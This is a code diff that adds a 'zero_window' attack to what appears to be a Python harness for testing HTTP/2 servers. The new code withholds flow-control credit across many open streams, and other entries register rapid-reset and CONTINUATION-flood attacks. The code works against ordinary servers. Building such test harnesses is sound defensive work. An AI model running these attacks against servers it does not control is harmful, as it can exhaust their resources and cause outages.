@@ -12,6 +12,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
+import h2.settings
 from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame
 
 def connect(host, port):
@@ -91,6 +92,41 @@ def silent(host, port):
     sock, conn = connect(host, port)
     return outcome(sock, conn, time.monotonic() + 10), 0
 
+def zero_window(host, port, streams=10, size=2 * 1024 * 1024):
+    """Announces a stream window of 0, opens STREAMS GETs for SIZE bytes each and grants nothing more.
+    Prints `holding N` once N responses have started (their bodies stuck behind the window), then
+    reads, granting nothing, until every stream is reset or 15 s pass: `reset=R` (streams reset by
+    the server) and `ended=E` (streams the server ended)."""
+    sock, conn = connect(host, port)
+    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    for i in range(streams):
+        conn.send_headers(1 + 2 * i, request_headers("/bytes/%d" % size), end_stream=True)
+    sock.sendall(conn.data_to_send())
+    sock.settimeout(0.2)
+    started, reset, ended = set(), set(), set()
+    deadline = time.monotonic() + 15
+    while time.monotonic() < deadline and len(reset) + len(ended) < streams:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                started.add(event.stream_id)
+                if len(started) == streams:
+                    print("holding %d" % streams, flush=True)
+            elif isinstance(event, h2.events.StreamReset):
+                reset.add(event.stream_id)
+            elif isinstance(event, h2.events.StreamEnded):
+                ended.add(event.stream_id)
+        # SETTINGS and PING acknowledgements only: no WINDOW_UPDATE is ever sent.
+        send_quietly(sock, conn.data_to_send())
+    return "reset=%d ended=%d" % (len(reset), len(ended)), streams
+
 def settings(host, port):
     """Not an attack: what the server grants, as `settings max_concurrent_streams=N
     max_header_list_size=M initial_window_size=W connection_window=C`, C being the connection's window
@@ -150,7 +186,8 @@ def backend(host, port):
                 return "served", 0
         sock.sendall(conn.data_to_send())
 
-ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent}
+ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent,
+           "zero_window": zero_window}
 
 if __name__ == "__main__":
     host, port, attack = sys.argv[1:4]
